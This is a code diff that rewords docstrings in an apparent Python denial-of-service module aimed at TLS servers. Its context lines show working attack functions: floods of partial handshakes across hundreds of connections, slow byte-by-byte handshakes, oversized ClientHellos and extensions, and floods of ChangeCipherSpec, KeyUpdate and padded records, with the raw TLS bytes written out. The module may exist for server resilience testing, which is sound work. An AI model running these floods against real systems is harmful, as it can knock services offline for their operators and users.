@@ -17,7 +17,7 @@ _BEGUN_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(50)
 
 
 def handshakes(attacker: Attacker) -> None:
-    """TLS handshakes that stop after their first bytes, on 300 connections."""
+    """Begins TLS handshakes on 300 connections, and sends nothing after their first bytes."""
     _hellos(attacker, _BEGUN_HELLO)
 
 
@@ -30,7 +30,7 @@ def _hellos(attacker: Attacker, begun: bytes) -> None:
 
 
 def whole_handshakes(attacker: Attacker) -> None:
-    """Complete TLS handshakes one after another, without a request."""
+    """Makes complete TLS handshakes one after another, and closes each connection without a request."""
     while not attacker.is_over:
         conn = attacker.connect()
         if conn is not None:
@@ -38,26 +38,26 @@ def whole_handshakes(attacker: Attacker) -> None:
 
 
 def change_cipher_specs(attacker: Attacker) -> None:
-    """TLS records of the type ChangeCipherSpec, after the first bytes of a handshake."""
+    """Sends the first bytes of a TLS handshake, and then records of the type ChangeCipherSpec without pause."""
     attacker.flood(
         itertools.chain([_BEGUN_HELLO], repeated(b"\x14\x03\x03\x00\x01\x01")), attacker.connect(is_raw=True)
     )
 
 
 def large_hellos(attacker: Attacker) -> None:
-    """Beginnings of TLS handshakes of 60 KB each, on 300 connections."""
+    """Sends the first 60 KB of a ClientHello of 65 KB on each of 300 connections, and never the rest."""
     hello = b"\x01\x00\xfe\x00\x03\x03" + bytes(60_000)
     parts = [hello[at : at + 16384] for at in range(0, len(hello), 16384)]
     _hellos(attacker, b"".join(b"\x16\x03\x01" + len(part).to_bytes(2) + part for part in parts))
 
 
 def slow_handshakes(attacker: Attacker) -> None:
-    """TLS handshakes on 200 connections that arrive byte by byte."""
+    """Opens 200 connections on which TLS handshakes arrive byte by byte."""
     dribble(attacker, _BEGUN_HELLO[:6], b"\0", is_raw=True)
 
 
 def hellos_at_once(attacker: Attacker) -> None:
-    """Beginnings of valid TLS handshakes on 300 connections at the same time, again and again."""
+    """Sends valid ClientHellos on 300 connections at once, closes them after the answers, and begins again."""
     hello = _client_hello(attacker)
     while not attacker.is_over:
         conns = [conn for _ in range(300) if not attacker.is_over and (conn := attacker.connect(is_raw=True))]
@@ -97,7 +97,7 @@ _LONG_EXTENSIONS = {
 
 
 def odd_hellos(attacker: Attacker) -> None:
-    """Beginnings of TLS handshakes with one list of 28 KB each: server names, protocols, groups, keys or tickets."""
+    """Sends ClientHellos with an extension of 28 KB: server names, protocols, groups, algorithms, keys or tickets."""
     hellos = itertools.cycle([_hello(number, data) for number, data in _LONG_EXTENSIONS.values()])
     while not attacker.is_over:
         conn = attacker.connect(is_raw=True)
@@ -120,12 +120,12 @@ def _hello(number: int, data: bytes) -> bytes:
 
 
 def key_updates(attacker: Attacker) -> None:
-    """Messages that change the keys of a connection, with an empty record of data after every 30 of them."""
+    """Sends messages that change the keys of a TLS connection, with an empty record of data after every 30 messages."""
     _flood_records(attacker, lambda records: [records.key_update() for _ in range(30)] + [records.record(DATA, b"")])
 
 
 def padded_records(attacker: Attacker) -> None:
-    """Records of 16 KB that have one byte of data each, and padding."""
+    """Sends TLS records of 16 KB that each hold one byte of data and padding."""
     _flood_records(attacker, lambda records: [records.record(DATA, b"x", padding=16_000)])
 
 
